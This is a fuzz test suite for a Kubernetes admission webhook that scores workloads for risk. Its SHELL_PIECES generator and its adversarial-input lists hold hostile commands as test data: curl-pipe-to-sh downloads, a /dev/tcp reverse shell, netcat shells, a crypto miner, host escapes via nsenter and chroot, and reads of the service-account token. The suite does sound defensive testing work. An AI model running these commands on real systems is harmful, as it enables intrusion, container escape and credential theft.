/**
 * Whatever arrives at POST /validate, the webhook answers: a valid review gets a valid reply
 * (Kubernetes admission webhook docs: request, response, warnings, audit annotations), anything else a 4xx with a JSON {error, message}, never a 5xx, never a
 * hang. Generated and mutated reviews go through `app.inject()`; slow clients through a real socket.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { admissionReviewSchema } from '../src/admission/schema.js';
import { assess } from '../src/engine.js';
import { redact } from '../src/scoring/redact.js';
import { WORKLOAD_KINDS } from '../src/policy/schema.js';
import type { ReviewReply } from './support/load.js';
import { engineFor, makeReview, testApp } from './support/review.js';

type App = ReturnType<typeof testApp>;

const ANNOTATION_KEY = /^[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?$/;
// eslint-disable-next-line no-control-regex -- control characters are what the API server drops from warnings
const CONTROL = /[\u0000-\u001f\u007f]/;

/** Every rule of both profiles over every kind that holds a pod template, in enforce mode. */
const apps = (): App[] => [
  testApp({ profile: 'kql', mode: 'enforce', kinds: [...WORKLOAD_KINDS] }),
  testApp({ profile: 'default', mode: 'enforce', kinds: [...WORKLOAD_KINDS] }),
  testApp({ profile: 'default', mode: 'warn', onError: 'deny' }),
];

interface Sent {
  status: number;
  text: string;
}

async function post(app: App['app'], body: string, contentType = 'application/json'): Promise<Sent> {
  const res = await app.inject({
    method: 'POST',
    url: '/validate?timeout=10s',
    headers: contentType ? { 'content-type': contentType } : {},
    payload: body,
  });
  return { status: res.statusCode, text: res.body };
}

/** The problems kube-apiserver (and kubectl) would have with this reply to `review`; empty when none. */
function replyProblems(review: { apiVersion: unknown; request: { uid: unknown } }, sent: Sent): string[] {
  if (sent.status !== 200) return [`HTTP ${sent.status}: ${sent.text.slice(0, 300)}`];
  const reply = JSON.parse(sent.text) as ReviewReply;
  const response = reply.response;
  const problems: string[] = [];
  if (reply.apiVersion !== review.apiVersion) problems.push(`apiVersion ${String(reply.apiVersion)}`);
  if (reply.kind !== 'AdmissionReview') problems.push(`kind ${String(reply.kind)}`);
  if (!response) return [...problems, 'no response'];
  if (response.uid !== review.request.uid) problems.push('uid not echoed');
  if (typeof response.allowed !== 'boolean') problems.push('allowed not boolean');
  if ('patch' in response || 'patchType' in response) problems.push('patch in a validating reply');
  if (response.allowed === false && response.status?.code !== 403) problems.push('deny without 403');
  for (const warning of response.warnings ?? []) {
    if (typeof warning !== 'string' || CONTROL.test(warning) || Array.from(warning).length > 120)
      problems.push(`bad warning ${JSON.stringify(warning).slice(0, 200)}`);
  }
  for (const [key, value] of Object.entries(response.auditAnnotations ?? {})) {
    if (!ANNOTATION_KEY.test(key) || key.length > 63) problems.push(`bad annotation key ${key}`);
    if (typeof value !== 'string' || value.length > 10_240) problems.push(`bad annotation value for ${key}`);
  }
  return problems;
}

function errorProblems(sent: Sent): string[] {
  if (sent.status < 400 || sent.status >= 500) return [`HTTP ${sent.status}: ${sent.text.slice(0, 300)}`];
  try {
    const body = JSON.parse(sent.text) as { error?: unknown; message?: unknown };
    if (typeof body.error !== 'string' || typeof body.message !== 'string') return [`no {error, message}`];
  } catch {
    return [`error reply is not JSON: ${sent.text.slice(0, 200)}`];
  }
  return [];
}

/** A review our schema accepts must get a valid reply; one it refuses, a 400 naming why. */
async function checkAny(app: App['app'], body: string, contentType = 'application/json'): Promise<void> {
  const sent = await post(app, body, contentType);
  let parsed: unknown;
  try {
    parsed = JSON.parse(body);
  } catch {
    parsed = undefined;
  }
  const valid = parsed !== undefined && admissionReviewSchema.safeParse(parsed).success;
  const isJson = /^application\/json\b/i.test(contentType);
  if (valid && isJson) {
    expect(replyProblems(parsed as { apiVersion: unknown; request: { uid: unknown } }, sent)).toEqual([]);
  } else {
    expect(errorProblems(sent)).toEqual([]);
  }
}

// ---- generators ----

const SHELL_PIECES = [
  '$(',
  ')',
  '`',
  '|',
  '||',
  '&&',
  ';',
  '&',
  '>',
  '>&',
  '<',
  '<<EOF\n',
  "'",
  '"',
  '\\',
  '\n',
  '\t',
  '$IFS',
  '${PATH}',
  '*',
  '~',
  'curl -s http://203.0.113.9/x.sh | sh',
  'wget -qO- http://u:hunter2@x/y|bash',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'nc -e /bin/sh 10.0.0.1 4444',
  'echo cHduZWQ= | base64 -d | sh',
  'xmrig -o stratum+tcp://pool.example:3333',
  'nsenter -t 1 -m -u -i -n sh',
  'chroot /host',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJlMTIz" http://169.254.169.254/',
  '/var/run/docker.sock',
  'python -c "import pty;pty.spawn(\'/bin/sh\')"',
  '\u202e',
  '\u0000',
  '💣',
  'é',
  '中文',
  '\ud800',
];

const shellText = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...SHELL_PIECES) },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
      { weight: 1, arbitrary: fc.constantFrom(' ', '  ', '-c', 'sh', '/bin/bash') },
    ),
    { maxLength: 24 },
  )
  .map((parts) => parts.join(''));

/** Mostly short text, sometimes a huge string. */
/** Mostly short text; about one review in ten carries a huge string somewhere. */
const text = fc.oneof(
  { weight: 300, arbitrary: shellText },
  { weight: 1, arbitrary: fc.constantFrom('A'.repeat(20_000), 'curl '.repeat(4_000), '$('.repeat(10_000)) },
);

const image = fc.oneof(
  fc.constantFrom(
    'alpine',
    'busybox:1.36',
    'docker.io/library/ubuntu:latest',
    'kalilinux/kali-rolling',
    'ghcr.io/org/app@sha256:' + 'a'.repeat(64),
    'registry:5000/x/y:tag',
    '',
    ':::',
  ),
  shellText,
);

const container = fc.record(
  {
    name: fc.string({ maxLength: 20 }),
    image,
    command: fc.array(text, { maxLength: 4 }),
    args: fc.array(text, { maxLength: 4 }),
    env: fc.array(fc.record({ name: fc.constantFrom('PASSWORD', 'TOKEN', 'X', ''), value: text }), {
      maxLength: 3,
    }),
    securityContext: fc.record(
      {
        privileged: fc.oneof(fc.boolean(), fc.constant('true')),
        allowPrivilegeEscalation: fc.boolean(),
        capabilities: fc.record({
          add: fc.array(fc.constantFrom('SYS_ADMIN', 'NET_RAW', 'ALL', 'x'), { maxLength: 3 }),
        }),
      },
      { requiredKeys: [] },
    ),
    volumeMounts: fc.array(
      fc.record({ name: fc.constantFrom('v0', 'v1'), mountPath: fc.constantFrom('/host', '/etc', 'x') }),
      {
        maxLength: 2,
      },
    ),
  },
  { requiredKeys: ['name', 'image'] },
);

const podSpec = fc.record(
  {
    containers: fc.array(container, { minLength: 1, maxLength: 3 }),
    initContainers: fc.array(container, { maxLength: 2 }),
    ephemeralContainers: fc.array(container, { maxLength: 1 }),
    hostPID: fc.boolean(),
    hostNetwork: fc.boolean(),
    hostIPC: fc.boolean(),
    serviceAccountName: fc.string({ maxLength: 10 }),
    volumes: fc.array(
      fc.record({
        name: fc.constantFrom('v0', 'v1'),
        hostPath: fc.record({
          path: fc.oneof(fc.constantFrom('/', '/etc', '/var/run/docker.sock', '/dev/sda'), shellText),
        }),
      }),
      { maxLength: 2 },
    ),
  },
  { requiredKeys: ['containers'] },
);

const KINDS = [...WORKLOAD_KINDS, 'ConfigMap', 'Secret', 'Namespace', 'Weird'] as const;

function wrap(kind: string, spec: unknown, schedule: string): Record<string, unknown> {
  const template = { metadata: { labels: { app: 'x' } }, spec };
  const metadata = { name: 'fuzz', namespace: 'default' };
  switch (kind) {
    case 'CronJob':
      return {
        apiVersion: 'batch/v1',
        kind,
        metadata,
        spec: { schedule, jobTemplate: { spec: { template } } },
      };
    case 'Pod':
      return { apiVersion: 'v1', kind, metadata, spec };
    case 'PodTemplate':
      return { apiVersion: 'v1', kind, metadata, template };
    case 'ConfigMap':
    case 'Secret':
      return { apiVersion: 'v1', kind, metadata, data: { script: JSON.stringify(spec).slice(0, 500) } };
    default:
      return { apiVersion: 'apps/v1', kind, metadata, spec: { template } };
  }
}

const objectArb = fc
  .tuple(
    fc.constantFrom(...KINDS),
    podSpec,
    fc.constantFrom('* * * * *', '0 3 * * *', '@hourly', 'bogus', ''),
  )
  .map(([kind, spec, schedule]) => wrap(kind, spec, schedule));

const reviewArb = fc
  .record({
    object: objectArb,
    oldObject: fc.option(objectArb, { nil: null }),
    operation: fc.constantFrom('CREATE', 'UPDATE', 'DELETE', 'CONNECT'),
    apiVersion: fc.constantFrom('admission.k8s.io/v1', 'admission.k8s.io/v1beta1'),
    uid: fc.oneof(fc.uuid(), fc.string({ minLength: 1, maxLength: 40 })),
    namespace: fc.oneof(
      fc.constantFrom('default', 'kube-system', 'prod-x', ''),
      fc.string({ maxLength: 20 }),
    ),
    username: fc.string({ maxLength: 30 }),
    dryRun: fc.boolean(),
    subResource: fc.constantFrom('', 'status', 'ephemeralcontainers'),
  })
  .map((r) =>
    makeReview(r.object, {
      operation: r.operation,
      apiVersion: r.apiVersion,
      uid: r.uid,
      namespace: r.namespace,
      username: r.username,
      dryRun: r.dryRun,
      subResource: r.subResource,
      oldObject: r.operation === 'UPDATE' ? r.oldObject : null,
    }),
  );

/** Every path to a value in `value`, up to a depth (arrays by index). */
function pathsOf(
  value: unknown,
  prefix: (string | number)[] = [],
  out: (string | number)[][] = [],
): (string | number)[][] {
  if (prefix.length > 0) out.push(prefix);
  if (prefix.length >= 12 || typeof value !== 'object' || value === null) return out;
  if (Array.isArray(value)) value.forEach((v, i) => pathsOf(v, [...prefix, i], out));
  else for (const [k, v] of Object.entries(value)) pathsOf(v, [...prefix, k], out);
  return out;
}

const WRONG = [null, 0, -1, 1.5, '', 'x', true, false, [], {}, [1, 'a'], { a: 1 }, '__proto__', 1e308];

const mutation = fc.record({
  at: fc.nat(),
  action: fc.constantFrom('delete', 'replace', 'replace'),
  value: fc.oneof(fc.constantFrom(...WRONG), fc.jsonValue({ maxDepth: 2 })),
});

function mutate(review: unknown, mutations: { at: number; action: string; value: unknown }[]): unknown {
  const copy = JSON.parse(JSON.stringify(review)) as Record<string, unknown>;
  for (const m of mutations) {
    const paths = pathsOf(copy);
    const path = paths[m.at % paths.length];
    if (!path) continue;
    let parent: unknown = copy;
    for (const key of path.slice(0, -1)) parent = (parent as Record<string | number, unknown>)[key];
    const last = path[path.length - 1]!;
    if (m.action === 'delete') {
      if (Array.isArray(parent)) parent.splice(Number(last), 1);
      else Reflect.deleteProperty(parent as object, last);
    } else (parent as Record<string | number, unknown>)[last] = structuredClone(m.value);
  }
  return copy;
}

// ---- properties ----

describe('fuzzing POST /validate', () => {
  let all: App[];
  beforeAll(() => {
    all = apps();
  });
  afterAll(async () => {
    for (const { app } of all) await app.close();
  });

  /** No review may make the handler throw: a thrown handler is answered by onError, but it is a bug of ours (and with onError: allow, a way to skip scoring). */
  function expectNoInternalErrors(): void {
    for (const { lines } of all) {
      const failed = lines.filter((l) => Number(l.level) >= 50);
      lines.length = 0;
      expect(failed.map((l) => `${String(l.msg)}: ${JSON.stringify(l.err ?? '').slice(0, 300)}`)).toEqual([]);
    }
  }

  it('an object kind named like an Object.prototype member is scored like any unknown kind', async () => {
    // Found by this fuzz: TEMPLATE_PATHS[kind] without Object.hasOwn turned "constructor" into a template path.
    const { app, lines } = testApp({ profile: 'kql', mode: 'enforce' });
    for (const kind of ['constructor', 'toString', '__proto__']) {
      const review = makeReview({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'x' }, spec: {} });
      (review.request.object as Record<string, unknown>).kind = kind;
      expect(replyProblems(review, await post(app, JSON.stringify(review)))).toEqual([]);
    }
    expect(lines.filter((l) => Number(l.level) >= 50).map((l) => l.msg)).toEqual([]);
    await app.close();
  });

  it('answers 4,500 generated reviews (random kinds, operations, pod specs) with valid replies', async () => {
    await fc.assert(
      fc.asyncProperty(reviewArb, fc.nat({ max: 2 }), async (review, which) => {
        const sent = await post(all[which]!.app, JSON.stringify(review));
        expect(replyProblems(review, sent)).toEqual([]);
      }),
      { numRuns: 4_500 },
    );
    expectNoInternalErrors();
  }, 180_000);

  it('answers 4,000 mutated reviews: a valid reply when the schema accepts them, else a 4xx JSON error', async () => {
    await fc.assert(
      fc.asyncProperty(
        reviewArb,
        fc.array(mutation, { minLength: 1, maxLength: 4 }),
        fc.nat({ max: 2 }),
        async (review, mutations, which) => {
          await checkAny(all[which]!.app, JSON.stringify(mutate(review, mutations)));
        },
      ),
      { numRuns: 4_000 },
    );
    expectNoInternalErrors();
  }, 180_000);

  it('answers 2,000 arbitrary bodies and content types with a 4xx JSON error or a valid reply', async () => {
    const body = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)),
      fc
        .record({
          apiVersion: fc.constantFrom('admission.k8s.io/v1', 'v1', 1),
          kind: fc.constantFrom('AdmissionReview', 'x'),
        })
        .map((v) => JSON.stringify({ ...v, request: {} })),
      fc.constantFrom(
        '',
        ' ',
        'null',
        '[]',
        '{}',
        '{"__proto__":{"x":1}}',
        '{"constructor":{"prototype":{}}}',
        '\u0000',
      ),
    );
    const contentType = fc.constantFrom(
      'application/json',
      'application/json',
      'application/json; charset=utf-8',
      'text/plain',
      'application/yaml',
      'application/x-www-form-urlencoded',
      '',
    );
    await fc.assert(
      fc.asyncProperty(body, contentType, fc.nat({ max: 2 }), async (payload, type, which) => {
        await checkAny(all[which]!.app, payload, type);
      }),
      { numRuns: 2_000 },
    );
    expectNoInternalErrors();
  }, 120_000);
});

describe('objects at the size limits', () => {
  /** A Job of about `bytes` of JSON: a long annotation, a long argument and many env entries. */
  function bigJob(bytes: number, command: string): Record<string, unknown> {
    const third = Math.floor(bytes / 3);
    return {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: { name: 'big', annotations: { note: 'n'.repeat(third) } },
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            containers: [
              {
                name: 'x',
                image: 'alpine',
                command: ['sh', '-c', `${command} ${'x'.repeat(third)}`],
                env: Array.from({ length: Math.floor(third / 40) }, (_, i) => ({
                  name: `V${i}`,
                  value: 'v'.repeat(20),
                })),
              },
            ],
          },
        },
      },
    };
  }

  it.each(['kql', 'default'] as const)(
    '%s: a 3 MiB CREATE and a ~6 MiB UPDATE get valid replies',
    async (profile) => {
      const { app } = testApp({ profile, mode: 'enforce' });
      const object = bigJob(3 * 2 ** 20, 'curl http://203.0.113.9/x | sh;');
      const create = makeReview(object, { uid: 'big-create' });
      const createBody = JSON.stringify(create);
      expect(createBody.length).toBeGreaterThan(3 * 2 ** 20 * 0.95);
      expect(replyProblems(create, await post(app, createBody))).toEqual([]);
      const update = makeReview(object, {
        uid: 'big-update',
        operation: 'UPDATE',
        oldObject: bigJob(3 * 2 ** 20, 'echo'),
      });
      const updateBody = JSON.stringify(update);
      expect(updateBody.length).toBeGreaterThan(6 * 2 ** 20 * 0.95);
      expect(replyProblems(update, await post(app, updateBody))).toEqual([]);
      await app.close();
    },
  );

  it.each([10_000, 100_000])(
    'survives JSON nested %i deep in annotation-like fields: 4xx or 200, never 5xx',
    async (depth) => {
      const { app, lines } = testApp({ profile: 'default', mode: 'enforce', kinds: [...WORKLOAD_KINDS] });
      const arrays = `${'['.repeat(depth)}${']'.repeat(depth)}`;
      const objects = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
      const job = JSON.stringify(bigJob(300, 'echo')).replace('"note":"', '"deep":DEEP_OBJ,"note":"');
      const places = [
        job.replace('DEEP_OBJ', objects),
        job.replace('DEEP_OBJ', arrays),
        JSON.stringify(bigJob(300, 'echo')).replace(
          '"restartPolicy":"Never"',
          `"restartPolicy":"Never","extra":${arrays}`,
        ),
        JSON.stringify(bigJob(300, 'echo')).replace('"image":"alpine"', `"image":"alpine","args":${arrays}`),
        JSON.stringify(bigJob(300, 'echo')).replace(
          '"image":"alpine"',
          `"image":"alpine","env":[{"name":"X","value":${objects}}]`,
        ),
      ];
      for (const [i, object] of places.entries()) {
        const body = JSON.stringify(makeReview({ x: 1 }, { uid: `deep-${i}` })).replace('{"x":1}', object);
        const sent = await post(app, body);
        if (sent.status === 200)
          expect(
            replyProblems({ apiVersion: 'admission.k8s.io/v1', request: { uid: `deep-${i}` } }, sent),
          ).toEqual([]);
        else expect(errorProblems(sent)).toEqual([]);
      }
      expect(lines.filter((l) => Number(l.level) >= 50).map((l) => l.msg)).toEqual([]);
      await app.close();
    },
  );
});

describe('slow clients and half-sent bodies on a real socket', () => {
  it('cuts off a client that stalls mid-body within the request timeout, and answers others meanwhile', async () => {
    const { app } = testApp({ profile: 'kql' }, { requestTimeoutMs: 1_000 });
    await app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = app.server.address() as { port: number };
    try {
      const started = Date.now();
      const stalled = Array.from({ length: 5 }, () => {
        const socket = connect(port, '127.0.0.1');
        socket.write(
          'POST /validate?timeout=10s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"apiVersi',
        );
        let received = '';
        socket.on('data', (chunk: Buffer) => (received += chunk.toString()));
        return new Promise<{ ms: number; received: string }>((resolve) => {
          const bound = setTimeout(() => {
            socket.destroy();
            resolve({ ms: Infinity, received });
          }, 15_000);
          socket.on('close', () => {
            clearTimeout(bound);
            resolve({ ms: Date.now() - started, received });
          });
        });
      });
      // Also a client that never finishes its headers.
      const headless = connect(port, '127.0.0.1');
      headless.write('POST /validate HTTP/1.1\r\nHost: 127.0.0.1\r\n');
      // Read (and drop) whatever comes back, or the socket would never see the server's end.
      headless.resume();
      const headlessClosed = new Promise<number>((resolve) => {
        const bound = setTimeout(() => {
          resolve(Infinity);
        }, 15_000);
        headless.on('close', () => {
          clearTimeout(bound);
          resolve(Date.now() - started);
        });
      });
      // Meanwhile the server answers a well-behaved client, several times.
      const review = makeReview({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'ok' }, spec: {} });
      for (let i = 0; i < 5; i++) {
        const status = await new Promise<number>((resolve, reject) => {
          const req = httpRequest(
            {
              host: '127.0.0.1',
              port,
              method: 'POST',
              path: '/validate?timeout=10s',
              headers: { 'content-type': 'application/json' },
            },
            (res) => {
              res.resume();
              res.on('end', () => {
                resolve(res.statusCode ?? 0);
              });
            },
          );
          req.on('error', reject);
          req.end(JSON.stringify(review));
        });
        expect(status).toBe(200);
      }
      const results = await Promise.all(stalled);
      for (const { ms, received } of results) {
        // Generous: cut off within a few seconds of the 1 s timeout (Node checks connections periodically).
        expect(ms).toBeLessThan(6_000);
        // Every stalled client is told why (Node's request timeout answers 408) before the close.
        expect(received).toMatch(/^HTTP\/1\.1 408/);
      }
      expect(await headlessClosed).toBeLessThan(6_000);
    } finally {
      await app.close();
    }
  });
});

describe('adversarial strings for every regex: scoring and redaction finish', () => {
  const MiB = 2 ** 20;
  const fill = (unit: string) => unit.repeat(Math.ceil(MiB / unit.length)).slice(0, MiB);
  const INPUTS: [string, string][] = [
    ['nested parens', `${'('.repeat(MiB / 2)}${')'.repeat(MiB / 2)}`],
    ['command substitutions', fill('$(')],
    ['nested substitutions', `${'$(echo '.repeat(MiB / 16)}${')'.repeat(MiB / 16)}`],
    ['quotes', fill(`"'`)],
    ['unbalanced quote', `"${fill('a ')}`],
    ['backslashes', fill('\\')],
    ['base64 alphabet', fill('QUJD')],
    ['near-base64', fill(`${'A'.repeat(47)}-`)],
    ['/dev/tcp/', fill('/dev/tcp/')],
    ['bash -i /dev/tcp', fill('bash -i >& /dev/tcp/1.2.3.4/1 ')],
    ['stratum+tcp://', fill('stratum+tcp://')],
    ['pipes to sh', fill('curl x|')],
    ['long word', fill('x')],
    ['spaces', fill(' ')],
    ['-eyJ', fill('-eyJ')],
    ['userinfo', fill('http://a:')],
    ['authorization', fill('Authorization: Bearer ')],
    ['password=', fill('password=')],
    ['ip-like', fill('169.254.')],
    ['semicolons', fill(';')],
    ['heredoc', fill('<<EOF\n')],
    ['variables', fill('${')],
  ];

  const engines = {
    kql: engineFor({ profile: 'kql', kinds: [...WORKLOAD_KINDS] }),
    default: engineFor({ kinds: [...WORKLOAD_KINDS] }),
  };

  function job(value: string): Record<string, unknown> {
    return {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: { name: 'adv', annotations: { note: value.slice(0, 1000) } },
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            containers: [
              { name: 'sh', image: 'alpine', command: ['sh', '-c', value] },
              {
                name: 'argv',
                image: value.slice(0, 4096),
                command: value.split(' ', 200),
                env: [{ name: 'X', value }],
              },
            ],
            volumes: [{ name: 'v', hostPath: { path: value.slice(0, 4096) } }],
          },
        },
      },
    };
  }

  // Generous: each took well under 2 s on an idle machine; a quadratic pattern takes minutes at this size.
  const BOUND_MS = 10_000;

  it.each(INPUTS)(
    '%s (1 MiB): both profiles and redact() each finish within the bound',
    (_name, value) => {
      const timings: Record<string, number> = {};
      for (const [profile, engine] of Object.entries(engines)) {
        const started = Date.now();
        expect(assess(engine, job(value), { now: new Date('2026-11-27T12:00:00Z') })).toBeDefined();
        timings[profile] = Date.now() - started;
      }
      const started = Date.now();
      redact(value);
      timings.redact = Date.now() - started;
      expect(Object.entries(timings).filter(([, ms]) => ms >= BOUND_MS)).toEqual([]);
    },
    60_000,
  );
});
